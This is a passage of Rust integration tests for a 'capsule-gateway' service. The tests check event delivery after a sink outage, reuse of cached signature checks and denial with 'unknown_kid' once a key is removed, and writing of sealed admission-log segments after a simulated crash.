        assert_eq!(started.status, 202, "{}", started.text());
        let id = started.json()["run_id"].as_str().expect("id").to_string();
        let end = Instant::now() + Duration::from_secs(120);
        loop {
            let r = c.get(&format!("/v1/runs/{id}")).await.expect("status");
            if r.json()["status"] != "running" {
                assert_eq!(r.json()["status"], "completed", "{}", r.text());
                break;
            }
            assert!(Instant::now() < end, "the run did not finish");
            tokio::time::sleep(Duration::from_millis(200)).await;
        }
        id
    });
    // Queued while the sink is down; delivered once it is back.
    let end = Instant::now() + Duration::from_secs(10);
    while sink.seen().is_empty() {
        assert!(Instant::now() < end, "no attempt while the sink was down");
        std::thread::sleep(Duration::from_millis(100));
    }
    assert_eq!(std::fs::read_dir(&spool).expect("spool").count(), 1);
    sink.set(UP);
    let end = Instant::now() + Duration::from_secs(60);
    while !sink.seen().iter().any(|x| x.answered == Some(200)) {
        assert!(
            Instant::now() < end,
            "not delivered after recovery: {}",
            gateway.stderr()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    let seen = sink.seen();
    let accepted: Vec<Value> = seen
        .iter()
        .filter(|x| x.answered == Some(200))
        .map(|x| serde_json::from_slice(&x.body).expect("json"))
        .collect();
    assert_eq!(accepted.len(), 1);
    let event = &accepted[0];
    assert_eq!(event["id"], id.as_str());
    assert_eq!(event["runid"], id.as_str());
    assert_eq!(event["data"]["egress_mode"], "local-only");
    assert!(event["data"].get("stdout").is_none(), "{event}");
    assert!(seen
        .iter()
        .all(|x| x.content_type == "application/cloudevents+json"));
    let end = Instant::now() + Duration::from_secs(5);
    while std::fs::read_dir(&spool).expect("spool").count() != 0 {
        assert!(Instant::now() < end, "removed after the 2xx");
        std::thread::sleep(Duration::from_millis(50));
    }
    assert!(gateway.terminate().success(), "{}", gateway.stderr());
}

/// The verification cache through the service: the same capsule admitted again is a
/// hit (`capsule_gateway_verify_cache_hits_total` rises, the answer is the same);
/// after the key is removed from the trust file and the service restarted (the
/// policy loaded again), the capsule it signed is denied `unknown_kid`.
#[test]
fn a_readmission_is_a_cache_hit_and_a_removed_key_is_denied_after_restart() {
    const HITS: &str = "capsule_gateway_verify_cache_hits_total";
    let f = Fixture::new();
    let good = read_jws(&f.world.good_capsule("good", Signer::Es256));
    let client = f.client_svid_dir(RUNNER);
    let server = start(&f.config());
    runtime().block_on(async {
        let mut c = Client::connect(
            server.local_addr(),
            client_config(&client, GATEWAY_ID, false),
        )
        .await
        .expect("connect");
        c.upload_world_files().await;
        assert_eq!(metric(&c.metrics().await, HITS), Some(0.0));
        for _ in 0..3 {
            let r = c.admit(good.clone()).await.expect("admission");
            assert_eq!(r.status, 200, "{r:?}");
        }
        let m = c.metrics().await;
        assert_eq!(metric(&m, HITS), Some(2.0), "{m}");
        assert_eq!(
            metric(&m, "capsule_gateway_verify_cache_misses_total"),
            Some(1.0),
            "{m}"
        );
        assert_eq!(
            metric(&m, "capsule_gateway_verify_cache_entries"),
            Some(1.0),
            "{m}"
        );
    });
    server.shutdown();

    // The ES256 key leaves the trust file (and the tenant); the service starts again.
    let w = &f.world;
    let jwks =
        json!({ "keys": [w.hs.to_json(true), w.other.to_json(false), w.index_key.to_json(false)] });
    w.write_mode("trusted.jwks.json", jwks.to_string().as_bytes(), 0o600);
    let toml = w.policy_toml().replace(
        &format!("keys = [\"{}\", ", capsule_tests::ES_KID),
        "keys = [",
    );
    w.write_mode("policy.toml", toml.as_bytes(), 0o644);
    let server = start(&f.config());
    runtime().block_on(async {
        let mut c = Client::connect(
            server.local_addr(),
            client_config(&client, GATEWAY_ID, false),
        )
        .await
        .expect("connect");
        let r = c.admit(good.clone()).await.expect("admission");
        assert_eq!(r.status, 403, "{r:?}");
        assert_eq!(r.json()["reason"], "unknown_kid", "{r:?}");
        assert_eq!(metric(&c.metrics().await, HITS), Some(0.0));
    });
    server.shutdown();
}

/// The service seals segments off its commit path: a segment that a killed process
/// sealed and did not export is written when the service starts, and those sealed
/// while it serves are written by its keeper while it serves (not at the stop). Each
/// leaves the database once its file is written, and `log verify` holds throughout.
#[test]
fn the_service_writes_sealed_segments_off_its_commits_and_after_a_crash() {
    use capsule_gateway::admission_log::signer::CheckpointSigner;
    use capsule_gateway::state::StateDir;
    use verify_core::{Decision, FixedClock, Reason};
    let f = Fixture::new();
    let mut config = f.config();
    config.log.checkpoint_every = 2;
    config.log.segment_records = 4;
    let dir = config.state_dir.clone();
    let segment = |n: u64| dir.join(format!("log/segment-{n:08}.jsonl"));
    let log_verify = || {
        let out = Command::new(env!("CARGO_BIN_EXE_capsule-gateway"))
            .args(["log", "verify", "--json", "--state"])
            .arg(&dir)
            .output()
            .expect("log verify");
        let v: Value = serde_json::from_slice(&out.stdout).expect("json");
        (out.status.code(), v)
    };

    // What a process killed between a seal's commit and its export leaves.
    {
        let clock = FixedClock(f.world.now);
        let policy = verify_core::Policy::load(
            &f.world.policy_path(),
            verify_core::crypto::default_backend(),
        )
        .expect("policy");
        let located = StateDir::locate(&dir, true, &clock)
            .expect("locate")
            .expect("state");
        let signer = Arc::new(CheckpointSigner::software(&dir).expect("signer"));
        let state = located
            .with_log(Some(signer), config.log)
            .open()
            .expect("open");
        state.defer_upkeep();
        let denials = (0..5)
            .map(|_| Err(Decision::deny_unread(Reason::MalformedJws, "not a JWS")))
            .collect();
        state.record(denials, &policy, &clock).expect("recorded");
    }
    assert!(!segment(0).exists());
    assert_eq!(admission_log(&dir).len(), 5);

    let good = read_jws(&f.world.good_capsule("good", Signer::Es256));
    let client = f.client_svid_dir(RUNNER);
    let server = start(&config);
    let wait_for = |path: &Path| {
        let end = Instant::now() + Duration::from_secs(20);
        while !path.exists() {
            assert!(Instant::now() < end, "{} never written", path.display());
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    wait_for(&segment(0));
    runtime().block_on(async {
        let mut c = Client::connect(
            server.local_addr(),
            client_config(&client, GATEWAY_ID, false),
        )
        .await
        .expect("connect");
        c.upload_world_files().await;
        for _ in 0..6 {
            let r = c.admit(good.clone()).await.expect("admission");
            assert_eq!(r.status, 200, "{r:?}");
        }
    });
    // One admission per commit: the fourth record after the seal seals segment 1.
    wait_for(&segment(1));
    server.shutdown();

    let (code, v) = log_verify();
    assert_eq!(code, Some(0), "{v}");
    assert_eq!(v["records"], 11, "{v}");
    let sealed: u64 = v["segments"]
        .as_array()
        .expect("segments")
        .iter()
        .map(|s| s["records"].as_u64().expect("records"))
        .sum();
    assert_eq!(sealed, 9, "segments 0..5 and 5..9: {v}");
    // Every sealed record has left the database; the rest is still there.
    assert_eq!(admission_log(&dir).len() as u64, 11 - sealed, "{v}");
}
